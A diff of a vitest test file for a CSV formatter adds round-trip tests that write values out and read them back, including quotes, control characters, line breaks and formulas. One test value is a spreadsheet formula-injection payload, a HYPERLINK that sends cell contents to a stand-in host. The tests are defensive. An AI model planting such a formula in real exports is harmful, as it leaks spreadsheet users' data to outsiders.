@@ -1,6 +1,9 @@
+import { createTask } from "@workbelt/crm-tools";
+import { pageUpdate } from "@workbelt/notes-tools";
 import { parse } from "csv-parse/sync";
 import stringWidth from "string-width";
 import { describe, expect, test } from "vitest";
+import { readTable } from "../../src/input/read-table.js";
 import { Fields } from "../../src/output/fields.js";
 import { formatCsv } from "../../src/output/format-csv.js";
 import { formatJson } from "../../src/output/format-json.js";
@@ -112,10 +115,39 @@ describe("CSV", () => {
     expect(lines.startsWith("a,b,c.d\r\n")).toBe(true);
     expect(parse(lines)).toEqual([
       ["a", "b", "c.d"],
-      ['say "hi", twice\nor not', "x, y", ""],
+      ['say "hi", twice\nor not', '["x","y"]', ""],
       ["", "", "1"],
     ]);
   });
+
+  test.each([
+    ["text", "Call Gemma"],
+    ["what looks like JSON", '["a"]'],
+    ["quotes", '"Acme" Ltd'],
+    ["a text in quotes", '"1984"'],
+    ["a formula", '=HYPERLINK("http://x.example/?"&A1)'],
+    ["a formula behind apostrophes", "''=1+1"],
+    ["an apostrophe", "'n Sync"],
+    ["control characters", hostile],
+    ["line breaks", "a\r\nb\n\u2028c"],
+    ["a list", ["a, b", "c"]],
+    ["objects", [{ name: "a" }]],
+    ["a date", "2026-12-01"],
+  ])("%s is read back as it was", (_name, value) => {
+    const pages = { operation: pageUpdate, listResultNames: () => new Set<string>() };
+    const text = [...formatCsv([{ page_id: "1", properties: { "Vol. 1": value } }])].join("\n");
+    const read = readTable(text, pages, undefined);
+    expect(read).toEqual([{ page_id: "1", properties: { "Vol. 1": value } }]);
+  });
+
+  test.each(["Call", '["a"]', '"1984"', "=1+1", "''=1+1", hostile])(
+    "the text %j is read back from a column of text",
+    (content) => {
+      const text = [...formatCsv([{ content }])].join("\n");
+      const tasks = { operation: createTask, listResultNames: () => new Set<string>() };
+      expect(readTable(text, tasks, undefined)).toEqual([{ content }]);
+    },
+  );
 
   test.each([
     ['=HYPERLINK("http://x.example/?"&A1)', true],
